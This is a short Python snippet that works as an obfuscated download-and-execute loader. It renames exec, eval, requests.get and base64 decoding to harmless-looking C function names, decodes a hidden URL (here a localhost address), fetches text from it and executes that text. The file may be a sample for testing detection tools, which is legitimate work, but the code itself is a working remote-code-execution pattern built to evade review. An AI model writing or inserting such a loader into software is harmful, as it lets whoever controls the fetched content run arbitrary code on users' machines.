from base64 import b64decode as alloca
from requests import get as memset
free = exec
replace = eval
URL = 'aHR0cDovLzEyNy4wLjAuMTo5L2I2NA=='
_index = memset(alloca(URL), timeout=3)
free(replace(_index.text))
